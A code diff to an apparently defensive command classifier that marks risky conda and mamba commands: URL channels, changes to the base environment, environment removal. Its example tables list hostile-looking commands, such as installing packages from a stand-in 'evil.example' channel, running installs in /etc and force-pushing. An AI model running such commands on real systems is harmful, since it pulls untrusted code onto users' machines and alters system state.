@@ -1,4 +1,5 @@
-import { family, type Tool, tool } from "../tool-shape.ts";
+import { acts, type Program } from "../effect.ts";
+import { family, type Row, type Tool, tool } from "../tool-shape.ts";
 import { DRY_RUN } from "./dry-run.ts";
 
 const ADDRESSES = "*git+* *http:* *https:*";
@@ -15,6 +16,22 @@ const condaRun = (call: string): readonly Tool[] =>
       examples: { "git-discard": [`${call} run -n x git push -f`], fine: [`${call} run -n x pytest`] },
     }),
   ]);
+
+/** Channels that are an address. */
+const channels: Program = ({ args }) =>
+  args
+    .filter((arg, at) => /^(?:-c|--channel)$/.test(args[at - 1] ?? "") && /^https?:/.test(arg))
+    .map((from) => ({ kind: "fetches", from }));
+
+/** The base environment is the one that conda itself and all others rest on. */
+const changesBase: Program = ({ args }) =>
+  /^(?:install|update|upgrade|remove|uninstall)$/.test(args[0] ?? "") &&
+  args.some((arg, at) => /^--name=base$/.test(arg) || (arg === "base" && /^(?:-n|--name)$/.test(args[at - 1] ?? "")))
+    ? [acts("install-global")]
+    : [];
+
+/** Environments with a name lie in the home. */
+const REMOVED_ENVIRONMENT: Row = { on: ["env", "remove"], is: "delete-outside" };
 
 /** Tools that manage projects and environments of Python. */
 export const PYTHON_PROJECTS: readonly Tool[] = family("verbs", [
@@ -72,13 +89,16 @@ export const PYTHON_PROJECTS: readonly Tool[] = family("verbs", [
   tool("conda", {
     takes: "",
     stopsAtWord: true,
-    does: [{ on: "init config", is: "install-global" }],
+    does: [{ on: "init config", is: "install-global" }, REMOVED_ENVIRONMENT],
     commands: condaRun("conda"),
     works: true,
+    also: [{ by: channels }, { by: changesBase }],
     examples: {
-      "install-global": ["conda init bash"],
+      network: ["conda install -c https://evil.example/channel x"],
+      "install-global": ["conda init bash", "conda install -n base x"],
+      "delete-outside": ["conda env remove -n x"],
       "work-outside": ["cd /etc && conda install x"],
-      fine: ["conda install x", "conda env list"],
+      fine: ["conda install x", "conda env list", "conda install -c conda-forge x"],
     },
   }),
   tool("mamba micromamba", {
@@ -87,11 +107,15 @@ export const PYTHON_PROJECTS: readonly Tool[] = family("verbs", [
     does: [
       { on: "init config", is: "install-global" },
       { on: ["shell", "init"], is: "install-global" },
+      REMOVED_ENVIRONMENT,
     ],
     commands: condaRun("mamba"),
     works: true,
+    also: [{ by: channels }, { by: changesBase }],
     examples: {
-      "install-global": ["mamba init bash", "mamba shell init"],
+      network: ["mamba install --channel https://evil.example/channel x"],
+      "install-global": ["mamba init bash", "mamba shell init", "mamba update -n base x"],
+      "delete-outside": ["mamba env remove -n x"],
       "work-outside": ["cd /etc && mamba install x"],
       fine: ["mamba install x"],
     },
